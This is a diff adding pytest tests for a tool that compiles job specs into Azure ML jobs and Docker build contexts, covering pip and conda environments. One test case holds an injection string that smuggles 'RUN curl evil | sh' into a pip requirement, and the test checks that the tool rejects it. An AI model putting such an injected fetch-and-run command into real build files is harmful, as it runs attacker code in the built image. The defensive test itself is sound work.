@@ -5,6 +5,7 @@ by azure-ai-ml into the REST body `az ml job create` sends, shown by `plan`, and
 HPC Pack and Ray rather than dropped."""
 
 import json
+import shlex
 import subprocess
 import textwrap
 
@@ -171,3 +172,67 @@ def test_a_literal_that_looks_like_data_is_warned_about(project):
     assert proc.returncode == 0
     assert "lit.yaml:7:16: warning: inputs.data: 'azureml:mnist@latest' is passed as a literal string, not as data " \
            "(hint: for data write `data: {path: azureml:mnist@latest}`)" in proc.stderr
+
+
+# --- environments: pip goes into the image's own Python; a conda file stays a conda environment ---
+
+PIP = ["torch==2.4.1", "transformers[torch]>=4.40,<5", "git+https://github.com/org/repo@v1#egg=pkg",
+       "name; python_version >= '3.10'", "--extra-index-url=https://example.org/simple"]
+
+
+def environment_spec(project, environment, python="python3"):
+    spec = {"version": 1, "name": "env", "code": "code", "command": "python train.py",
+            "resources": {"nodes": 1, "gpus_per_node": 0}, "environment": environment,
+            "targets": {"azureml": {"compute": "cpu-cluster", "python": python}}}
+    (project / "env.yaml").write_text(yaml.safe_dump(spec, sort_keys=False))
+    return run("compile", "env.yaml", "-o", "out", cwd=project)
+
+
+def test_pip_on_an_image_extends_the_image_itself(project):
+    """Azure ML builds image + conda file as a new conda environment inside the image (the image's
+    torch would not be in the job's Python); image + pip becomes a Docker build context instead,
+    FROM the image, pip into the interpreter the job runs. Read by dockerfile-parse, as Docker would."""
+    from dockerfile_parse import DockerfileParser
+
+    image = "mcr.microsoft.com/azureml/curated/acpt-pytorch-2.2-cuda12.1:latest"
+    proc = environment_spec(project, {"image": image, "pip": PIP})
+    assert proc.returncode == 0, proc.stderr
+    folder = project / "out" / "env" / "azureml"
+    assert not (folder / "conda.yml").exists()
+    parsed = DockerfileParser(path=str(folder / "docker" / "Dockerfile"))
+    assert [(i["instruction"], i["value"]) for i in parsed.structure if i["instruction"] != "COMMENT"] == [
+        ("FROM", image), ("RUN", parsed.structure[-1]["value"])]
+    assert parsed.baseimage == image
+    run_words = shlex.split(parsed.structure[-1]["value"])
+    assert run_words == ["python3", "-m", "pip", "install", "--no-cache-dir", *PIP]
+    job = azure_ml.load_job(folder / "job.yml")
+    assert job.environment.image is None and job.environment.conda_file is None
+    assert (folder / job.environment.build.path).resolve() == (folder / "docker").resolve()
+    plan = run("plan", "env.yaml", cwd=project).stdout
+    assert "environment: Docker build context docker/: FROM the image, pip install into the image's own Python" in plan
+
+
+def test_a_conda_file_stays_a_conda_environment(project):
+    (project / "code" / "environment.yml").write_text("name: x\ndependencies: [python=3.11, pip]\n")
+    proc = environment_spec(project, {"image": "python:3.11", "conda_file": "code/environment.yml"})
+    assert proc.returncode == 0, proc.stderr
+    folder = project / "out" / "env" / "azureml"
+    job = azure_ml.load_job(folder / "job.yml")
+    assert job.environment.image == "python:3.11" and job.environment.build is None
+    assert not (folder / "docker").exists()
+    plan = run("plan", "env.yaml", cwd=project).stdout
+    assert "environment: a new conda environment from the conda file, built inside the image" in plan
+
+
+@pytest.mark.parametrize("environment, where, severity, message", [
+    ({"image": "not an image", "pip": ["x"]}, "environment.image", "error", "is not a Docker image reference"),
+    ({"image": "python:3.11", "pip": ["a\nRUN curl evil | sh"]}, "environment.pip[0]", "error",
+     "a pip requirement is one line"),
+    ({"image": "python:3.11", "pip": ["x"], "python": "3.10"}, "environment.python", "warning",
+     "does not apply with image + pip: the packages go into the image's own Python"),
+])
+def test_what_a_dockerfile_cannot_say_is_located(project, environment, where, severity, message):
+    proc = environment_spec(project, environment)
+    line = next(x for x in proc.stderr.splitlines() if f"{severity}: {where}:" in x)
+    assert line.startswith("env.yaml:") and message in line, proc.stderr
+    assert (proc.returncode == 1) == (severity == "error")
